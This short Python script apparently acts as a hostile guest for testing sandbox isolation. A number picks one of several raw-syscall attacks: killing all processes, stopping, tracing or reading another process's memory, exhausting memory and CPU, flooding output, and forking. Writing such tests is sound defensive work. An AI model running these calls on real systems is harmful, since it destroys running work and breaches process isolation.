# One attack on all others by native code, chosen by the guest's number.
import ctypes
import sys

libc = ctypes.CDLL(None, use_errno=True)
page = ctypes.create_string_buffer(4096)
here = ctypes.addressof(page)


def call(*numbers):
    return libc.syscall(*map(ctypes.c_long, numbers))


def fork():
    while libc.fork() < 0:  # refused, and so it never gets to two
        page.raw = page.raw


def hog():
    hold = []
    try:
        while True:
            hold.append(bytearray(1 << 24))
    except MemoryError:
        while True:
            for block in hold:
                block[::4096] = block[::4096]


def flood():
    while True:
        libc.write(2, page, 4096)


def spin():
    while True:
        pass


ATTACKS = (
    lambda: call(62, -1, 9),                          # kill everybody
    lambda: call(62, int(sys.argv[1]) % 200 + 2, 9),  # kill one
    lambda: call(234, 2, 2, 19),                      # stop one
    lambda: call(101, 16, 2, 0, 0),                   # trace one
    lambda: call(310, 2, here, 1, here, 1, 0),        # read one
    lambda: call(257, -100, here, 2, 0),              # open
    lambda: call(434, 2, 0),                          # pidfd of one
    lambda: call(41, 1, 1, 0),                        # a socket
    lambda: call(203, 2, 8, here),                    # its processors
    lambda: call(141, 0, 2, 19),                      # its priority
    lambda: call(302, 2, 7, here, 0),                 # its limits
    lambda: call(0, 4, here, 1),                      # a descriptor
    lambda: call(30, 1, 0, 0),                        # shared memory
    lambda: call(228, ~2 << 3 | 2, here),             # its clock
    fork, hog, flood, spin,
)
ATTACKS[int(sys.argv[1]) // 2 % len(ATTACKS)]()
